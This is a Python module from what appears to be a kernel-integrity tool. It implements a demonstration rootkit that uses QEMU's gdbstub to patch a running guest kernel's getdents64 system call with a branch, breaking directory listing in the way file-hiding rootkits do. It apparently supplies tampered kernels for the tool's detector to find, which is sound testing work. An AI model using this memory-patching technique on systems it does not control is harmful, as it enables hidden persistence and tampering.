# SPDX-License-Identifier: Apache-2.0
"""A rootkit for demonstrations: what an attacker who owns Linux' kernel leaves in it, written into the
memory of a running gateway from outside. The gateway has no shell and loads no modules to do it with.
"""

import json
import struct
import subprocess

from .errors import KapuError
from .gdb import Gdb
from .instance import Instance
from .kernelimage import KernelImage
from .paths import BUILD, host_environment

BRANCH = 0x14000000  # b, with the distance in words in its low 26 bits (Arm ARM C6.2.26)


def kernel_place(instance: Instance) -> int:
    """Physical address of the kernel's text in this boot, as kapu inspect finds it."""
    result = subprocess.run([BUILD / "gateway" / "kapu", "inspect", "--json", "--live",
                             instance.folder], env=host_environment(), capture_output=True,
                            text=True, check=False)
    if result.returncode not in (0, 1):
        raise KapuError(f"kapu inspect: {result.stderr.strip()}")
    return int(json.loads(result.stdout)["text_pa"], 16)


def infect(instance: Instance, vmlinux: bytes) -> list[str]:
    """Hook a system call; says what was done."""
    image = KernelImage(vmlinux)
    place = kernel_place(instance)

    def offset(name: str) -> int:
        return image.address(name) - image.base

    listing, quiet = offset("__arm64_sys_getdents64"), offset("__arm64_sys_sync")
    branch = struct.pack("<I", BRANCH | (quiet - listing) >> 2 & 0x3ffffff)
    path = instance.folder / "rootkit.sock"
    instance.machine.qmp("human-monitor-command", **{
        "command-line": f"gdbserver unix:{path},server=on,wait=off"})
    stub = Gdb(path)
    try:
        if stub.command("Qqemu.PhyMemMode:1") != b"OK":
            raise KapuError("QEMU does not write physical memory")
        stub.write(place + listing, branch)
    finally:
        stub.close()
        instance.machine.qmp("human-monitor-command", **{"command-line": "gdbserver none"})
        instance.machine.qmp("cont")  # a stub stops the machine when somebody connects
        path.unlink(missing_ok=True)
    return ["the system call that lists folders begins with a branch to other code: files can be hidden"]
